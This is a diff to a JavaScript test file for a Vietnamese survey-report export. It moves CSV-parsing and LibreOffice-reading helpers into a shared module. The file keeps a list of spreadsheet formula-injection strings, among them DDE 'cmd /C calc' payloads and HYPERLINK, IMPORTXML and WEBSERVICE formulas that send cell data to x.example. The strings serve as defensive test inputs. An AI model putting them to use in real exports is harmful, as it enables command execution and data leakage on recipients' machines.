@@ -1,45 +1,12 @@
 // Files of responses as other programs read them: no cell turns into a formula, Vietnamese is intact, figures are those of the report.
 import assert from 'node:assert/strict';
-import { execFile } from 'node:child_process';
-import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
 import test from 'node:test';
 import { http, ok, run, serve } from '../lib/hailong.mjs';
 import { definition, office } from '../lib/office.mjs';
 import { Browser, firstLink } from '../lib/officers.mjs';
-
-const tool = (name, args, cwd) => new Promise((done, fail) => execFile(name, args, { cwd, timeout: 90000, maxBuffer: 64 << 20, encoding: 'utf8' }, (error, out, err) => (error ? fail(new Error(`${name}: ${error.message}\n${err}${out}`)) : done(out))));
-
-/** The fields of a CSV text, by RFC 4180. */
-function table(text) {
-  const rows = [[]];
-  let field = '', quoted = false, row = rows[0];
-  for (let i = text.startsWith('\ufeff') ? 1 : 0; i < text.length; i++) {
-    const c = text[i];
-    if (quoted) {
-      if (c !== '"') field += c;
-      else if (text[i + 1] === '"') field += text[++i];
-      else quoted = false;
-    } else if (c === '"') quoted = true;
-    else if (c === ',' || c === '\n') {
-      row.push(field);
-      field = '';
-      if (c === '\n') rows.push(row = []);
-    } else if (c !== '\r') field += c;
-  }
-  if (field !== '' || row.length > 0) row.push(field);
-  return rows.filter((r) => r.length > 0);
-}
-
-/** Each sheet of a file as LibreOffice reads it, formulas as formulas: { name: rows }. A CSV is one sheet. exact: numbers with all digits, not as shown. */
-async function read(d, file, exact = false) {
-  const out = join(d.dir, `read-${readdirSync(d.dir).length}`);
-  mkdirSync(out);
-  const csv = file.endsWith('.csv') ? ['--infilter=CSV:44,34,76,1,,1033,false,true,false,false,false,0'] : [];
-  // Comma, quote, UTF-8, from line 1, …, texts in quotes: no, cells as shown, formulas as formulas, …, every sheet.
-  await tool('soffice', [`-env:UserInstallation=file://${join(d.dir, 'office')}`, '--headless', ...csv, '--convert-to', `csv:Text - txt - csv (StarCalc):44,34,76,1,,1033,false,true,${!exact},true,false,-1`, '--outdir', out, file]);
-  return Object.fromEntries(readdirSync(out).map((name) => [/-([^-]+)\.csv$/.exec(name)?.[1] ?? 'sheet', table(readFileSync(join(out, name), 'utf8'))]));
-}
+import { read, sameFigure, table, tool } from '../lib/sheets.mjs';
 
 /** Texts that a spreadsheet would like to run: 200 of them, each with Vietnamese behind. */
 const commands = ['1+1', 'cmd|\' /C calc\'!A0', 'HYPERLINK("http://x.example/?"&A1,"xem")', 'SUM(A1:A9)', 'IMPORTXML(CONCAT("http://x.example/",A1),"//a")', 'DDE("cmd","/C calc","x")', '84912', 'WEBSERVICE("http://x.example")', '2+5+cmd|x!A0', 'A1'];
@@ -188,16 +155,6 @@ test('an officer asks for a file, waits, fetches it; nobody else does, and it is
   const half = await http(server, 'HEAD', `${page}/file`, { headers: { Cookie: `__Host-s=${first.cookie}` } });
   assert.deepEqual([half.status, half.body], [200, '']);
 });
-
-/** What a figure's cells must be: numbers with all their digits, or a text that says it is hidden. */
-function sameFigure(cells_, e, what) {
-  if (e.hidden) {
-    assert.deepEqual(cells_.slice(0, 3), ['', '', ''], what);
-    return assert.match(cells_[3], /^(ẩn \(|chưa ai trả lời)/, what);
-  }
-  const near = (cell, value, name) => (value === undefined ? assert.equal(cell, '', `${what} ${name}`) : assert.ok(Math.abs(Number(cell) - value) < 1e-9 * Math.max(1, Math.abs(value)), `${what} ${name}: ${cell}, expected ${value}`));
-  ['respondents', 'answers', 'satisfied', 'percent', 'low', 'high'].forEach((name, i) => near(cells_[i], e[name], name));
-}
 
 test('a report as a workbook says what JSON says, draws it, and hides what is hidden', async (t) => {
   const d = await house(t);
